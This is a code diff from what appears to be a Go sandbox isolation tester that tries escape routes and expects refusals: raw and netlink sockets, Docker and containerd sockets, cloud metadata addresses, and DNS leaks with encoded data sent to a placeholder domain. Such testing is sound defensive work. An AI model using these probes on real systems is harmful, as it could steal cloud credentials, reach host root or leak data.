@@ -14,22 +14,22 @@ import (
 )
 
 var sockets = []Attempt{
-	{Class: "sockets", Name: "packet-socket", Gain: "all packets of the host", try: socket(unix.AF_PACKET, unix.SOCK_RAW, 0x0300)}, // ETH_P_ALL as it is on the wire
-	{Class: "sockets", Name: "raw-socket", Gain: "packets with forged addresses", try: socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)},
-	{Class: "sockets", Name: "raw-socket-6", Gain: "packets with forged addresses", try: socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)},
-	{Class: "sockets", Name: "audit-socket", Gain: "rules and messages of the host's audit", try: socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT)},
-	{Class: "sockets", Name: "netfilter-socket", Gain: "kernel code for packets, which has had many holes", try: socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER)},
-	{Class: "sockets", Name: "event-socket", Gain: "events of the host's devices", try: socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_KOBJECT_UEVENT)},
-	{Class: "sockets", Name: "crypto-socket", Gain: "kernel code that has had holes", try: socket(unix.AF_ALG, unix.SOCK_SEQPACKET, 0)},
-	{Class: "sockets", Name: "vsock", Gain: "the machine on which the host runs", try: socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)},
-	{Class: "sockets", Name: "key-socket", Gain: "keys of the host's network", try: socket(unix.AF_KEY, unix.SOCK_RAW, 2)},
-	{Class: "sockets", Name: "change-device", Gain: "another network device", Control: "of a network namespace of its own", try: deviceUp, refused: []syscall.Errno{unix.ENOTTY}},
-	{Class: "sockets", Name: "host-socket", Gain: "a service of the host", try: func(t *Target) error { return received(t, t.Socket) }},
-	{Class: "sockets", Name: "abstract-host-socket", Gain: "a service of the host", try: func(t *Target) error { return received(t, t.Abstract) }},
-	{Class: "sockets", Name: "host-loopback", Gain: "a service that only the host may use", Control: ownNetwork, try: func(t *Target) error {
+	{Class: "sockets", Name: "packet-socket", Gain: "all packets of the host", run: socket(unix.AF_PACKET, unix.SOCK_RAW, 0x0300)}, // ETH_P_ALL as it is on the wire
+	{Class: "sockets", Name: "raw-socket", Gain: "packets with forged addresses", run: socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)},
+	{Class: "sockets", Name: "raw-socket-6", Gain: "packets with forged addresses", run: socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)},
+	{Class: "sockets", Name: "audit-socket", Gain: "rules and messages of the host's audit", run: socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT)},
+	{Class: "sockets", Name: "netfilter-socket", Gain: "kernel code for packets, which has had many holes", run: socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER)},
+	{Class: "sockets", Name: "event-socket", Gain: "events of the host's devices", run: socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_KOBJECT_UEVENT)},
+	{Class: "sockets", Name: "crypto-socket", Gain: "kernel code that has had holes", run: socket(unix.AF_ALG, unix.SOCK_SEQPACKET, 0)},
+	{Class: "sockets", Name: "vsock", Gain: "the machine on which the host runs", run: socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)},
+	{Class: "sockets", Name: "key-socket", Gain: "keys of the host's network", run: socket(unix.AF_KEY, unix.SOCK_RAW, 2)},
+	{Class: "sockets", Name: "change-device", Gain: "another network device", Control: "of a network namespace of its own", run: deviceUp, refused: []syscall.Errno{unix.ENOTTY}},
+	{Class: "sockets", Name: "host-socket", Gain: "a service of the host", run: func(t *Target) error { return receiveSecret(t, t.Socket) }},
+	{Class: "sockets", Name: "abstract-host-socket", Gain: "a service of the host", run: func(t *Target) error { return receiveSecret(t, t.Abstract) }},
+	{Class: "sockets", Name: "host-loopback", Gain: "a service that only the host may use", Control: ownNetwork, run: func(t *Target) error {
 		return ask("127.0.0.1", t.Port, "127.0.0.1")
 	}},
-	{Class: "sockets", Name: "host-address", Gain: "a service of the host", Control: ownNetwork, try: askHost},
+	{Class: "sockets", Name: "host-address", Gain: "a service of the host", Control: ownNetwork, run: askHost},
 }
 
 const ownNetwork = "with a server in a network namespace of its own"
@@ -38,7 +38,7 @@ func socket(family, kind, protocol int) func(*Target) error {
 	return descriptor(func() (int, error) { return unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol) })
 }
 
-// deviceUp sets the flags of the loopback device to what they are.
+// deviceUp sets the flags of the loopback device to their current values.
 func deviceUp(*Target) error {
 	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
 	if err != nil {
@@ -53,10 +53,10 @@ func deviceUp(*Target) error {
 	return unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, req)
 }
 
-// patience bounds an attempt that is not answered.
-const patience = 3 * time.Second
+// answerTimeout bounds an attempt that gets no answer.
+const answerTimeout = 3 * time.Second
 
-// refusedByNetwork turns each way in which a network refuses into one refusal.
+// refusedByNetwork turns each way in which a network refuses a connection into EACCES.
 func refusedByNetwork(err error) error {
 	for _, refused := range []syscall.Errno{unix.ECONNREFUSED, unix.ECONNRESET, unix.EPIPE, unix.ENETUNREACH, unix.EHOSTUNREACH, unix.EADDRNOTAVAIL} {
 		if errors.Is(err, refused) {
@@ -71,16 +71,16 @@ func refusedByNetwork(err error) error {
 	return err
 }
 
-// ask sends a request over HTTP. The egress gateway may accept a connection before it knows
-// the host: its denial, or the end of the connection without an answer, is a refusal. Any other
-// answer is an escape.
+// ask sends a request over HTTP. The egress gateway may accept a connection before it knows the
+// host, so a denial, or the end of the connection without an answer, is a refusal. Any other answer
+// is an escape.
 func ask(host string, port int, name string) error {
-	conn, err := net.DialTimeout("tcp", net.JoinHostPort(host, itoa(port)), patience)
+	conn, err := net.DialTimeout("tcp", net.JoinHostPort(host, itoa(port)), answerTimeout)
 	if err != nil {
 		return refusedByNetwork(err)
 	}
 	defer conn.Close()
-	_ = conn.SetDeadline(time.Now().Add(patience))
+	_ = conn.SetDeadline(time.Now().Add(answerTimeout))
 	if _, err := fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", name); err != nil {
 		return refusedByNetwork(err)
 	}
@@ -96,9 +96,10 @@ func ask(host string, port int, name string) error {
 	case strings.HasPrefix(text, "HTTP/1.1 403 ") && strings.Contains(strings.ToLower(text), "crannog"):
 		return fmt.Errorf("%w (the gateway denied it)", unix.EACCES)
 	}
-	return fmt.Errorf("an answer that is no denial: %.200q", text)
+	return fmt.Errorf("the answer is not a denial: %.200q", text)
 }
 
+// askHost sends a request to each address of the host.
 func askHost(t *Target) error {
 	last := error(absentError("the host has no other address"))
 	for _, address := range t.Addresses {
@@ -109,7 +110,7 @@ func askHost(t *Target) error {
 	return last
 }
 
-// serviceSockets are sockets of services that start containers or act for root.
+// serviceSockets are the sockets of services that start containers or act for root.
 var serviceSockets = map[string]string{
 	"docker": "/run/docker.sock", "docker-in-var": "/var/run/docker.sock", "containerd": "/run/containerd/containerd.sock",
 	"podman": "/run/podman/podman.sock", "cri-o": "/run/crio/crio.sock", "buildkit": "/run/buildkit/buildkitd.sock",
@@ -120,16 +121,17 @@ var services = func() (all []Attempt) {
 	for _, name := range []string{"docker", "docker-in-var", "containerd", "podman", "cri-o", "buildkit", "system-bus", "systemd"} {
 		all = append(all, Attempt{
 			Class: "services of the host", Name: name + "-socket", Gain: "root of the host by a service", Control: "with a server at this path in a mount namespace of its own",
-			try: func(*Target) error { return connects(serviceSockets[name]) },
+			run: func(*Target) error { return connectTo(serviceSockets[name]) },
 		})
 	}
 	return append(all,
-		Attempt{Class: "services of the host", Name: "server-socket", Gain: "all sandboxes, by the server that made this one", try: func(t *Target) error { return connects(t.Server) }},
-		Attempt{Class: "services of the host", Name: "docker-over-tcp", Gain: "root of the host by a service", Control: ownNetwork, try: func(*Target) error { return ask("127.0.0.1", 2375, "127.0.0.1") }},
+		Attempt{Class: "services of the host", Name: "server-socket", Gain: "all sandboxes, by the server that made this one", run: func(t *Target) error { return connectTo(t.Server) }},
+		Attempt{Class: "services of the host", Name: "docker-over-tcp", Gain: "root of the host by a service", Control: ownNetwork, run: func(*Target) error { return ask("127.0.0.1", 2375, "127.0.0.1") }},
 	)
 }()
 
-func connects(path string) error {
+// connectTo connects to a Unix socket.
+func connectTo(path string) error {
 	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
 	if err != nil {
 		return err
@@ -141,14 +143,14 @@ func connects(path string) error {
 const metadataGain = "credentials of the machine at its cloud"
 
 var metadata = []Attempt{
-	{Class: "cloud metadata", Name: "metadata-address", Gain: metadataGain, Control: ownNetwork, try: func(*Target) error { return ask("169.254.169.254", 80, "169.254.169.254") }},
-	{Class: "cloud metadata", Name: "metadata-address-6", Gain: metadataGain, Control: ownNetwork, try: func(*Target) error { return ask("fd00:ec2::254", 80, "[fd00:ec2::254]") }},
-	{Class: "cloud metadata", Name: "metadata-of-tasks", Gain: metadataGain, Control: ownNetwork, try: func(*Target) error { return ask("169.254.170.2", 80, "169.254.170.2") }},
-	{Class: "cloud metadata", Name: "metadata-of-alibaba", Gain: metadataGain, Control: ownNetwork, try: func(*Target) error { return ask("100.100.100.200", 80, "100.100.100.200") }},
-	{Class: "cloud metadata", Name: "metadata-by-name", Gain: metadataGain, Control: ownNetwork, try: func(*Target) error {
+	{Class: "cloud metadata", Name: "metadata-address", Gain: metadataGain, Control: ownNetwork, run: func(*Target) error { return ask("169.254.169.254", 80, "169.254.169.254") }},
+	{Class: "cloud metadata", Name: "metadata-address-6", Gain: metadataGain, Control: ownNetwork, run: func(*Target) error { return ask("fd00:ec2::254", 80, "[fd00:ec2::254]") }},
+	{Class: "cloud metadata", Name: "metadata-of-tasks", Gain: metadataGain, Control: ownNetwork, run: func(*Target) error { return ask("169.254.170.2", 80, "169.254.170.2") }},
+	{Class: "cloud metadata", Name: "metadata-of-alibaba", Gain: metadataGain, Control: ownNetwork, run: func(*Target) error { return ask("100.100.100.200", 80, "100.100.100.200") }},
+	{Class: "cloud metadata", Name: "metadata-by-name", Gain: metadataGain, Control: ownNetwork, run: func(*Target) error {
 		return ask("metadata.google.internal", 80, "metadata.google.internal")
 	}},
-	{Class: "cloud metadata", Name: "metadata-by-another-host", Gain: metadataGain, Control: ownNetwork, try: func(*Target) error {
+	{Class: "cloud metadata", Name: "metadata-by-another-host", Gain: metadataGain, Control: ownNetwork, run: func(*Target) error {
 		return ask("169.254.169.254", 80, "example.com")
 	}},
 }
@@ -156,21 +158,21 @@ var metadata = []Attempt{
 const dnsGain = "data that leaves in names"
 
 var dns = []Attempt{
-	{Class: "DNS", Name: "foreign-resolver", Gain: dnsGain, Control: ownNetwork, try: func(*Target) error { return resolve("udp", "8.8.8.8:53", "leak.crannog.example") }},
-	{Class: "DNS", Name: "foreign-resolver-over-tcp", Gain: dnsGain, Control: ownNetwork, try: func(*Target) error { return resolve("tcp", "8.8.8.8:53", "leak.crannog.example") }},
-	{Class: "DNS", Name: "foreign-resolver-at-another-port", Gain: dnsGain, Control: ownNetwork, try: func(*Target) error { return resolve("udp", "8.8.8.8:5353", "leak.crannog.example") }},
-	{Class: "DNS", Name: "unlisted-name", Gain: dnsGain, Control: ownNetwork, try: func(t *Target) error {
+	{Class: "DNS", Name: "foreign-resolver", Gain: dnsGain, Control: ownNetwork, run: func(*Target) error { return resolve("udp", "8.8.8.8:53", "leak.crannog.example") }},
+	{Class: "DNS", Name: "foreign-resolver-over-tcp", Gain: dnsGain, Control: ownNetwork, run: func(*Target) error { return resolve("tcp", "8.8.8.8:53", "leak.crannog.example") }},
+	{Class: "DNS", Name: "foreign-resolver-at-another-port", Gain: dnsGain, Control: ownNetwork, run: func(*Target) error { return resolve("udp", "8.8.8.8:5353", "leak.crannog.example") }},
+	{Class: "DNS", Name: "unlisted-name", Gain: dnsGain, Control: ownNetwork, run: func(t *Target) error {
 		resolver := "8.8.8.8:53"
 		if !t.Control {
 			resolver = systemResolver()
 		}
 		return resolve("udp", resolver, "c2VjcmV0.leak.crannog.example")
 	}},
-	{Class: "DNS", Name: "name-of-the-host", Gain: "a service that only the host may use, by a name that leads to it", Control: ownNetwork, try: func(t *Target) error {
+	{Class: "DNS", Name: "name-of-the-host", Gain: "a service that only the host may use, by a name that leads to it", Control: ownNetwork, run: func(t *Target) error {
 		return ask("localhost", t.Port, "rebind.crannog.example")
 	}},
-	{Class: "DNS", Name: "resolver-over-tls", Gain: dnsGain, Control: ownNetwork, try: func(*Target) error { return ask("8.8.8.8", 853, "dns.google") }},
-	{Class: "DNS", Name: "multicast-resolver", Gain: "names of the host's network", Control: ownNetwork, try: func(t *Target) error {
+	{Class: "DNS", Name: "resolver-over-tls", Gain: dnsGain, Control: ownNetwork, run: func(*Target) error { return ask("8.8.8.8", 853, "dns.google") }},
+	{Class: "DNS", Name: "multicast-resolver", Gain: "names of the host's network", Control: ownNetwork, run: func(t *Target) error {
 		address := "224.0.0.251:5353"
 		if t.Control {
 			address = "8.8.8.8:5353"
@@ -181,7 +183,7 @@ var dns = []Attempt{
 
 // systemResolver returns the first resolver of /etc/resolv.conf.
 func systemResolver() string {
-	text, _ := os.ReadFile("/etc/resolv.conf") // without one there is no resolver
+	text, _ := os.ReadFile("/etc/resolv.conf") // without the file there is no resolver
 	for line := range strings.Lines(string(text)) {
 		if fields := strings.Fields(line); len(fields) > 1 && fields[0] == "nameserver" {
 			return net.JoinHostPort(fields[1], "53")
@@ -190,14 +192,14 @@ func systemResolver() string {
 	return "127.0.0.53:53"
 }
 
-// resolve asks a resolver for an address. An answer without an address is a refusal.
+// resolve asks a resolver for an address. A reply without an address is a refusal.
 func resolve(network, address, name string) error {
-	conn, err := net.DialTimeout(network, address, patience)
+	conn, err := net.DialTimeout(network, address, answerTimeout)
 	if err != nil {
 		return refusedByNetwork(err)
 	}
 	defer conn.Close()
-	_ = conn.SetDeadline(time.Now().Add(patience))
+	_ = conn.SetDeadline(time.Now().Add(answerTimeout))
 	query := []byte{0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
 	for label := range strings.SplitSeq(name, ".") {
 		query = append(append(query, byte(len(label))), label...)
